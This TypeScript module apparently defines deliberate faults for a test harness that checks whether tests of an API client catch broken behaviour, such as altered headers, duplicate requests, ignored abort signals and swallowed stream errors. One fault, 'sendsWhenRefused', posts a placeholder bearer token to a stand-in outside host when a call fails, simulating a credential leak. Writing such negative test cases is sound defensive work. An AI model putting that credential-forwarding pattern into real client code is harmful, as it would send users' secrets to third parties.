import type { CallOptions, Case, Connection, Subject, SubjectOptions } from "../case.ts";

/** Breaks a subject. */
export type Fault = Case["negative"];

/** A request on its way to the transport, which can be changed. */
export type EditableRequest = RequestInit & { url: string; headers: Headers };

/** Changes requests after they were authenticated. */
export function changesRequest(change: (request: EditableRequest) => void | Promise<void>): Fault {
  return changesTransport((fetch) => async (input, init) => {
    const url = input instanceof Request ? input.url : String(input);
    const request = { ...init, url, headers: new Headers(init?.headers) };
    await change(request);
    return await fetch(request.url, request);
  });
}

/** Sets or, given `undefined`, removes a header after authentication. */
export function changesHeader(name: string, value: string | undefined): Fault {
  return changesRequest(({ headers }) =>
    value === undefined ? headers.delete(name) : headers.set(name, value)
  );
}

/** Changes responses before the client sees them. */
export function changesResponse(
  change: (response: Response) => Response | Promise<Response>,
): Fault {
  return changesTransport((fetch) => async (input, init) => await change(await fetch(input, init)));
}

/** Changes the text of responses, which then arrives in one piece. */
export function changesText(change: (text: string) => string): Fault {
  return changesResponse(async (response) => {
    const { status, headers } = response;
    return new Response(change(await response.text()), { status, headers });
  });
}

/** Sends every request twice. */
export const sendsTwice: Fault = changesTransport((fetch) => async (input, init) => {
  await (await fetch(input, init)).body?.cancel();
  return await fetch(input, init);
});

/** Changes the options that the subject is configured with. */
export function changesOptions(change: (options: SubjectOptions) => SubjectOptions): Fault {
  return (subject) => ({
    ...subject,
    connect: (options, fetch) => subject.connect(change(options), fetch),
  });
}

/** Changes the options of calls. */
export function changesCalls(change: (options: CallOptions) => CallOptions): Fault {
  return changesConnection((connection) => changeCalls(connection, change));
}

function changeCalls(
  connection: Connection,
  change: (options: CallOptions) => CallOptions,
): Connection {
  const { call, respond, streamResponse, chat, streamChat, upload, derive } = connection;
  return {
    ...connection,
    derive: derive && (async (options) => changeCalls(await derive(options), change)),
    call: call && ((method, path, options) => call(method, path, change(options ?? {}))),
    respond: respond && ((question, options) => respond(question, change(options ?? {}))),
    streamResponse: streamResponse &&
      ((question, options) => streamResponse(question, change(options ?? {}))),
    chat: chat && ((question, options) => chat(question, change(options ?? {}))),
    streamChat: streamChat && ((question, options) => streamChat(question, change(options ?? {}))),
    upload: upload && ((file, purpose, options) => upload(file, purpose, change(options ?? {}))),
  };
}

/** Ignores signals. */
export const ignoresSignals: Fault = changesCalls((
  { signal: _, transportSignal: __, ...options },
) => options);

/** Changes a connection. */
export function changesConnection(change: (connection: Connection) => Connection): Fault {
  return (subject) => ({
    ...subject,
    connect: async (options, fetch) => change(await subject.connect(options, fetch)),
  });
}

/** Ends streams without an error when they fail. */
export const hidesStreamErrors: Fault = changesConnection(({ streamResponse, ...rest }) => ({
  ...rest,
  async *streamResponse(...args) {
    try {
      yield* streamResponse?.(...args) ?? [];
    } catch {
      // As if the stream had ended
    }
  },
}));

/** Keeps streams open after the caller has stopped reading. */
export const keepsStreamsOpen: Fault = changesConnection((
  { streamResponse, streamChat, ...rest },
) => ({
  ...rest,
  streamResponse: streamResponse && ((...args) => withoutReturn(streamResponse(...args))),
  streamChat: streamChat && ((...args) => withoutReturn(streamChat(...args))),
}));

function withoutReturn<T>(stream: AsyncIterable<T>): AsyncIterable<T> {
  const pieces = stream[Symbol.asyncIterator]();
  return { [Symbol.asyncIterator]: () => ({ next: () => pieces.next() }) };
}

/** Sends a credential to another host when the subject refuses to send. */
export const sendsWhenRefused: Fault = (subject) => ({
  ...subject,
  async connect(options, fetch) {
    const leak = async () => {
      const headers = { authorization: "Bearer leaked" };
      return await (await fetch("https://elsewhere.example/", { method: "POST", headers })).json();
    };
    const { call, respond }: Connection = await subject.connect(options, fetch).catch(() => ({}));
    return {
      call: (...args) => call?.(...args).catch(leak) ?? leak(),
      respond: (...args) => respond?.(...args).catch(leak) ?? leak(),
    };
  },
});

function changesTransport(
  change: (fetch: typeof globalThis.fetch) => typeof globalThis.fetch,
): Fault {
  return (subject: Subject) => ({
    ...subject,
    connect: (options, fetch) => subject.connect(options, change(fetch)),
  });
}
